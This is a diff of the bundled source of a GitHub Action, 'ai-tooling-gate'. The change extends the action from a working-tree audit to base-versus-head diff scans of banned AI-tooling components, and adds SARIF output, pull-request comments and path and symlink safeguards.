-        mode: 'audit',
-        findings,
-        errors: inv.errors,
-        notices,
-        filesScanned: inv.filesScanned,
-        components: components.length,
-        policySources: options.policy.sources,
-    });
-}
-function inventoryReport(inv) {
-    return {
-        schemaVersion: 1,
-        components: inv.components,
-        errors: inv.errors,
-        summary: { filesScanned: inv.filesScanned, components: inv.components.length },
-    };
-}
-
-// EXTERNAL MODULE: external "node:child_process"
-var external_node_child_process_ = __nccwpck_require__(31421);
-// EXTERNAL MODULE: external "node:util"
-var external_node_util_ = __nccwpck_require__(57975);
-;// CONCATENATED MODULE: ./src/sources/directory.ts
-
-
-
-
-
-const execFileAsync = (0,external_node_util_.promisify)(external_node_child_process_.execFile);
-/**
- * The files of a directory on disk. In a git work tree: the files git tracks plus untracked ones
- * it does not ignore; otherwise every file. `node_modules/` and `.git/` are always skipped, and a
- * symlink is never followed out of the root.
- */
-class DirectorySource {
-    root;
-    maxFiles;
-    description;
-    rootReal;
-    constructor(root, maxFiles = Number.POSITIVE_INFINITY) {
-        this.root = root;
-        this.maxFiles = maxFiles;
-        this.description = root;
-    }
-    async list() {
-        const fromGit = await this.gitFiles();
-        const files = fromGit ?? (await this.walk());
-        const out = [...new Set(files.filter((f) => !isSkippedPath(f)))].sort();
-        if (out.length > this.maxFiles) {
-            throw new SourceReadError(`${out.length} files under ${this.root} exceed the limit of ${this.maxFiles} files`);
-        }
-        return out;
-    }
-    async gitFiles() {
-        try {
-            const { stdout: top } = await execFileAsync('git', ['-C', this.root, 'rev-parse', '--show-toplevel'], {
-                encoding: 'utf8',
-            });
-            const toplevel = top.trim();
-            if (!toplevel)
-                return null;
-            const { stdout } = await execFileAsync('git', [
-                '-C',
-                this.root,
-                '-c',
-                'core.quotepath=off',
-                'ls-files',
-                '-z',
-                '--cached',
-                '--others',
-                '--exclude-standard',
-                '--',
-                '.',
-            ], { encoding: 'utf8', maxBuffer: 1024 * 1024 * 1024 });
-            // ls-files with a pathspec of "." prints paths relative to the root given by -C.
-            return stdout.split('\0').filter((p) => p.length > 0);
-        }
-        catch {
-            return null;
-        }
-    }
-    async walk() {
-        const out = [];
-        const stack = [''];
-        while (stack.length > 0) {
-            const rel = stack.pop();
-            let entries;
-            try {
-                entries = await (0,promises_.readdir)((0,external_node_path_.join)(this.root, rel), { withFileTypes: true });
-            }
-            catch {
-                continue;
-            }
-            for (const entry of entries) {
-                const childRel = rel ? `${rel}/${entry.name}` : entry.name;
-                if (entry.isDirectory()) {
-                    if (entry.name === 'node_modules' || entry.name === '.git')
-                        continue;
-                    stack.push(childRel);
-                }
-                else {
-                    // Files, symlinks (never descended into as directories: the target is walked where it
-                    // lives inside the root, and a link out of the root is reported when read) and others.
-                    out.push(childRel);
-                }
-                if (out.length > this.maxFiles)
-                    return out;
-            }
-        }
-        return out;
-    }
-    async read(path, maxBytes) {
-        const rel = normalizeRelative(path);
-        if (rel === null)
-            throw new SourceReadError('path is outside the scanned directory');
-        const full = (0,external_node_path_.join)(this.root, rel);
-        let info;
-        try {
-            info = await (0,promises_.lstat)(full);
-        }
-        catch {
-            return null;
-        }
-        let target = full;
-        if (info.isSymbolicLink()) {
-            let real;
-            try {
-                real = await (0,promises_.realpath)(full);
-            }
-            catch (e) {
-                const code = e.code;
-                throw new SourceReadError(code === 'ELOOP' ? 'symlink loop' : 'symlink to a file that does not exist');
-            }
-            this.rootReal ??= await (0,promises_.realpath)(this.root);
-            const within = (0,external_node_path_.relative)(this.rootReal, real);
-            if (within === '' || within.startsWith('..' + external_node_path_.sep) || within === '..' || within.startsWith('/')) {
-                throw new SourceReadError('symlink points outside the scanned directory; not followed');
-            }
-            target = real;
-            info = await (0,promises_.stat)(real);
-        }
-        if (!info.isFile())
-            throw new SourceReadError('not a regular file');
-        if (info.size > maxBytes) {
-            throw new SourceReadError(`file is ${info.size} bytes, over the limit of ${maxBytes} bytes`);
-        }
-        const handle = await (0,promises_.open)(target, 'r');
-        try {
-            // Read at most maxBytes + 1 so a file that grows while being read is still caught.
-            const buf = Buffer.allocUnsafe(Math.min(info.size, maxBytes) + 1);
-            let total = 0;
-            for (;;) {
-                const { bytesRead } = await handle.read(buf, total, buf.length - total, total);
-                if (bytesRead === 0)
-                    break;
-                total += bytesRead;
-                if (total > maxBytes)
-                    throw new SourceReadError(`file is over the limit of ${maxBytes} bytes`);
-                if (total === buf.length)
-                    break;
-            }
-            return new Uint8Array(buf.buffer, buf.byteOffset, total);
-        }
-        finally {
-            await handle.close();
-        }
-    }
+    return policyChangeNotice(path, base, proposed);
 }
 
 ;// CONCATENATED MODULE: ./src/action/main.ts
+
+
+
+
+
+
+
+
+
+
+
+
+
 
 
 
@@ -69088,69 +78470,276 @@ function choice(name, allowed, fallback) {
     }
     return raw;
 }
-/** The action: the same engine as the CLI, reading inputs and writing outputs the runner's way. */
-async function run() {
+const HEX_SHA = /^[0-9a-f]{40}([0-9a-f]{24})?$/i;
+/** Makes a commit's objects available locally: present, or fetched (shallow clones). */
+async function ensureLocalCommit(top, ref) {
+    if (HEX_SHA.test(ref)) {
+        if (await hasCommit(top, ref))
+            return ref.toLowerCase();
+        try {
+            info(`Fetching ${ref} (not in the local clone)`);
+            await fetchCommit(top, ref);
+        }
+        catch (e) {
+            info(`Could not fetch ${ref}: ${e.message.split('\n')[0]}`);
+            return null;
+        }
+        return (await hasCommit(top, ref)) ? ref.toLowerCase() : null;
+    }
     try {
-        const workspace = process.env.GITHUB_WORKSPACE ?? process.cwd();
-        const root = (0,external_node_path_.resolve)(workspace, getInput('working-directory') || '.');
+        return await revParse(top, ref);
+    }
+    catch {
+        return null;
+    }
+}
+function gitSide(top, sha, prefix, limits) {
+    const scan = new GitSource(top, sha, prefix, limits.maxFiles);
+    const root = prefix ? new GitSource(top, sha, '', limits.maxFiles) : scan;
+    return {
+        scan,
+        root,
+        sha,
+        close: () => {
+            scan.close();
+            if (root !== scan)
+                root.close();
+        },
+    };
+}
+function apiSide(client, repo, sha, prefix, limits) {
+    const scan = new GitHubApiSource(client, repo.owner, repo.repo, sha, prefix, limits.maxFiles);
+    const root = prefix ? new GitHubApiSource(client, repo.owner, repo.repo, sha, '', limits.maxFiles) : scan;
+    return { scan, root, sha, close: () => { } };
+}
+function parseRepository(value) {
+    const m = /^([^/]+)\/([^/]+)$/.exec(value ?? '');
+    return m ? { owner: m[1], repo: m[2] } : undefined;
+}
+async function readPayload(path) {
+    if (!path || !(0,external_node_fs_.existsSync)(path))
+        return {};
+    try {
+        return JSON.parse(await (0,promises_.readFile)(path, 'utf8'));
+    }
+    catch (e) {
+        throw new Error(`cannot read the event payload ${path}: ${e.message}`, { cause: e });
+    }
+}
+/** The action: the same engine as the CLI, reading inputs and writing outputs the runner's way. */
+async function run(env = process.env) {
+    const closers = [];
+    try {
+        const workspace = (0,external_node_path_.resolve)(env.GITHUB_WORKSPACE || process.cwd());
+        const workingDirectory = getInput('working-directory') || '.';
+        const root = (0,external_node_path_.resolve)(workspace, workingDirectory);
+        const relRoot = (0,external_node_path_.relative)(workspace, root);
+        if (relRoot.startsWith('..') || (0,external_node_path_.isAbsolute)(relRoot)) {
+            throw new Error(`working-directory "${workingDirectory}" is outside the workspace`);
+        }
         const failOn = choice('fail-on', ['introduced', 'any', 'never'], 'introduced');
-        const policyInput = getInput('policy') || '.github/ai-tooling-policy.yml';
-        const policyRef = policyInput.startsWith('builtin:') ? policyInput : (0,external_node_path_.resolve)(root, policyInput);
-        const policy = await loadPolicy(policyInput.startsWith('builtin:') || (await main_exists(policyRef)) ? policyRef : 'builtin:default');
+        const modeInput = choice('mode', ['auto', 'diff', 'audit'], 'auto');
+        const commentMode = choice('comment', ['on-failure', 'always', 'never'], 'on-failure');
+        const limits = limitsFromEnv(env);
+        const eventName = env.GITHUB_EVENT_NAME ?? '';
+        const payload = await readPayload(env.GITHUB_EVENT_PATH);
+        const repo = parseRepository(env.GITHUB_REPOSITORY);
+        const token = getInput('token');
+        if (token)
+            setSecret(token);
+        let client;
+        const api = () => {
+            if (!token)
+                throw new Error('the GitHub API is needed here and the token input is empty');
+            client ??= client_createClient(token, { log: (m) => info(m) });
+            return client;
+        };
+        const refs = eventRefs(eventName, payload);
+        const plan = resolveMode(modeInput, refs, {
+            baseRef: getInput('base-ref').trim(),
+            headRef: getInput('head-ref').trim(),
+        });
+        if (plan.note)
+            notice(plan.note);
+        const wt = (0,external_node_fs_.existsSync)(root) ? await workTreeOf(root) : null;
+        const prefix = wt ? wt.prefix : relRoot.split(external_node_path_.sep).join('/');
+        // --- sources -------------------------------------------------------------------------
+        const side = async (ref, what) => {
+            if (wt) {
+                const sha = await ensureLocalCommit(wt.top, ref);
+                if (sha)
+                    return gitSide(wt.top, sha, prefix, limits);
+            }
+            if (!repo)
+                throw new Error(`the ${what} commit ${ref} is not in the checkout and GITHUB_REPOSITORY is not set`);
+            info(`Reading the ${what} commit ${ref} through the GitHub API (it is not in the checkout)`);
+            return apiSide(api(), repo, ref, prefix, limits);
+        };
+        const workingTree = () => {
+            if (!(0,external_node_fs_.existsSync)(root))
+                throw new Error(`working-directory ${root} does not exist; check out the repository first`);
+            const scan = new DirectorySource(root, limits.maxFiles);
+            const top = wt ? wt.top : workspace;
+            return {
+                scan,
+                root: top === root ? scan : new DirectorySource(top, limits.maxFiles),
+                sha: env.GITHUB_SHA ?? '',
+                close: () => { },
+            };
+        };
+        const readGithub = (owner, r, path, ref) => readGithubFileWith(api(), owner, r, path, ref);
+        // --- registry look-ups for unpinned specs --------------------------------------------------
         const registry = getInput('registry').trim();
         if (registry !== '' && normalizeRegistry(registry) === null)
             throw new Error(`input registry must be an http(s) URL, not "${registry}"`);
         const offlineInput = getInput('offline').trim().toLowerCase() || 'false';
         if (offlineInput !== 'true' && offlineInput !== 'false')
             throw new Error(`input offline must be true or false, not "${getInput('offline')}"`);
-        const offline = offlineInput === 'true';
-        const resolveVersions = auditResolveHook(createNpmResolver({ root, offline, env: process.env, ...(registry !== '' ? { registry } : {}) }));
-        const report = await audit(new DirectorySource(root), {
-            policy,
-            limits: limitsFromEnv(process.env),
-            resolve: resolveVersions,
-        });
-        const reportFile = (0,external_node_path_.join)(process.env.RUNNER_TEMP ?? root, 'ai-tooling-gate-report.json');
-        await (0,promises_.writeFile)(reportFile, renderJson(report));
-        const failing = new Set(gateFindings(report, failOn));
-        for (const f of report.findings) {
-            if (f.action === 'pass')
-                continue;
-            const props = {
-                file: f.location.file,
-                startLine: f.location.line,
-                title: `ai-tooling-gate: ${f.ruleId}`,
-            };
-            if (failing.has(f))
-                error(f.message, props);
-            else
-                warning(f.message, props);
+        // The .npmrc comes from the trusted side (the base commit in diff mode): a pull request cannot
+        // point look-ups at a registry of its choosing.
+        const resolverFor = async (trusted) => auditResolveHook(createNpmResolver({
+            root,
+            offline: offlineInput === 'true',
+            env: process.env,
+            projectNpmrc: await readPolicyText(trusted, '.npmrc').catch(() => null),
+            ...(registry !== '' ? { registry } : {}),
+        }));
+        let report;
+        let compared;
+        let linkSha;
+        let changedFrom = '';
+        if (plan.mode === 'diff') {
+            const base = await side(plan.base, 'base');
+            closers.push(base.close);
+            const head = plan.head ? await side(plan.head, 'head') : workingTree();
+            closers.push(head.close);
+            // Both sides from the API: the pull request's file list names what changed (capped by GitHub).
+            // A commit against the work tree: git names what changed.
+            let changed;
+            if (wt && base.scan instanceof GitSource && head.scan instanceof DirectorySource) {
+                changed = await workTreeChanges(wt.top, base.sha, prefix);
+            }
+            else if (base.scan instanceof GitHubApiSource &&
+                head.scan instanceof GitHubApiSource &&
+                refs.pullRequest &&
+                repo &&
+                !getInput('base-ref') &&
+                !getInput('head-ref')) {
+                const files = await listPullFiles(api(), repo.owner, repo.repo, refs.pullRequest);
+                if (files === null)
+                    info('The pull request changes 3,000 files or more: comparing the whole trees instead');
+                else {
+                    changed = new Set([...files]
+                        .map((f) => (prefix ? (f.startsWith(prefix + '/') ? f.slice(prefix.length + 1) : null) : f))
+                        .filter((f) => f !== null));
+                    changedFrom = ' (changed files from the pull request)';
+                }
+            }
+            const { policy, origin, notices } = await loadActionPolicy({
+                input: getInput('policy'),
+                trusted: base.root,
+                proposed: head.root,
+                readGithub,
+            });
+            info(`Policy: ${origin}`);
+            report = await diffScan(base.scan, head.scan, {
+                policy,
+                limits,
+                notices,
+                resolve: await resolverFor(base.scan),
+                ...(changed ? { changed } : {}),
+            });
+            compared = `Compared ${main_short(base.sha)} (base) with ${head.sha ? main_short(head.sha) : 'the working tree'} (head)${changedFrom}; policy: ${origin}.`;
+            linkSha = head.sha;
         }
-        for (const e of report.errors)
-            error(e.message, { file: e.file, ...(e.line ? { startLine: e.line } : {}) });
+        else {
+            const head = plan.head ? await side(plan.head, 'head') : workingTree();
+            closers.push(head.close);
+            const { policy, origin, notices } = await loadActionPolicy({
+                input: getInput('policy'),
+                trusted: head.root,
+                readGithub,
+            });
+            info(`Policy: ${origin}`);
+            report = await audit(head.scan, { policy, limits, resolve: await resolverFor(head.scan) });
+            if (notices.length)
+                report.notices.unshift(...notices);
+            compared = `Audited ${head.sha ? main_short(head.sha) : 'the working tree'}; policy: ${origin}.`;
+            linkSha = head.sha;
+        }
+        // --- outputs -------------------------------------------------------------------------
         const failed = gateFails(report, failOn);
+        const outDir = await (0,promises_.mkdtemp)((0,external_node_path_.join)(env.RUNNER_TEMP || (0,external_node_os_.tmpdir)(), 'ai-tooling-gate-'));
+        const reportFile = (0,external_node_path_.join)(outDir, 'report.json');
+        await (0,promises_.writeFile)(reportFile, renderJson(report));
+        let sarifFile = '';
+        const sarifInput = getInput('sarif-file').trim();
+        if (sarifInput) {
+            sarifFile = (0,external_node_path_.resolve)(workspace, sarifInput);
+            await (0,promises_.mkdir)((0,external_node_path_.dirname)(sarifFile), { recursive: true });
+            await (0,promises_.writeFile)(sarifFile, renderSarif(report, { failOn, pathPrefix: prefix }));
+        }
+        const counts = annotate(report, failOn, core_namespaceObject, { pathPrefix: prefix });
+        const serverUrl = env.GITHUB_SERVER_URL || 'https://github.com';
+        const linkCtx = { serverUrl, repository: env.GITHUB_REPOSITORY ?? '', sha: linkSha, pathPrefix: prefix };
+        if (env.GITHUB_STEP_SUMMARY) {
+            const note = omittedNote(counts);
+            await summary
+                .addRaw(renderSummary(report, { failOn, ...linkCtx, compared, ...(note ? { notes: [note] } : {}) }))
+                .write();
+        }
+        if (refs.pullRequest !== undefined && repo && commentMode !== 'never') {
+            if (!token)
+                warning('ai-tooling-gate: no token, so no pull-request comment; the gate still decides');
+            else {
+                await postComment(api(), {
+                    ...repo,
+                    issue: refs.pullRequest,
+                    mode: commentMode,
+                    failed,
+                    report,
+                    failOn,
+                    workflow: env.GITHUB_WORKFLOW ?? '',
+                    job: env.GITHUB_JOB ?? '',
+                    workingDirectory: prefix || '.',
+                    link: blobLink(linkCtx),
+                    ...(env.GITHUB_RUN_ID
+                        ? { runUrl: `${serverUrl}/${env.GITHUB_REPOSITORY}/actions/runs/${env.GITHUB_RUN_ID}` }
+                        : {}),
+                });
+            }
+        }
         setOutput('result', failed ? 'fail' : 'pass');
         setOutput('failed', report.summary.failed);
         setOutput('warned', report.summary.warned);
         setOutput('introduced', report.summary.introduced ?? 0);
         setOutput('report-file', reportFile);
-        setOutput('sarif-file', '');
-        if (failed)
-            setFailed(`ai-tooling-gate: ${failing.size} banned component(s), ${report.errors.length} error(s)`);
+        setOutput('sarif-file', sarifFile);
+        info(`${report.mode}: ${report.summary.filesScanned} files scanned, ${report.summary.components} components, ${report.summary.failed} failed, ${report.summary.warned} warned${report.mode === 'diff' ? `, ${report.summary.introduced ?? 0} introduced, ${report.summary.removed ?? 0} removed` : ''}, ${report.errors.length} errors`);
+        if (failed) {
+            const findings = gateFindings(report, failOn).length;
+            const errors = gateErrors(report, failOn).length;
+            setFailed(`ai-tooling-gate: ${findings} banned component(s)${report.mode === 'diff' && failOn === 'introduced' ? ' introduced' : ''}, ${errors} file(s) that could not be scanned (fail-on: ${failOn})`);
+        }
     }
     catch (e) {
-        setFailed(`ai-tooling-gate: ${e instanceof Error ? e.message : String(e)}`);
+        const message = e instanceof Error ? e.message : String(e);
+        setOutput('result', 'fail');
+        setFailed(`ai-tooling-gate: ${message}`);
+        if (env.GITHUB_STEP_SUMMARY) {
+            await summary
+                .addRaw(`## ❌ ai-tooling-gate: could not run\n\n${mdText(message)}\n\nThe gate fails closed.\n`)
+                .write()
+                .catch(() => undefined);
+        }
+    }
+    finally {
+        for (const close of closers)
+            close();
     }
 }
-async function main_exists(path) {
-    const { access } = await Promise.resolve(/* import() */).then(__nccwpck_require__.t.bind(__nccwpck_require__, 51455, 23));
-    try {
-        await access(path);
-        return true;
-    }
-    catch {
-        return false;
-    }
+function main_short(sha) {
+    return HEX_SHA.test(sha) ? sha.slice(0, 12) : sha;
 }
 
 ;// CONCATENATED MODULE: ./src/action/index.ts
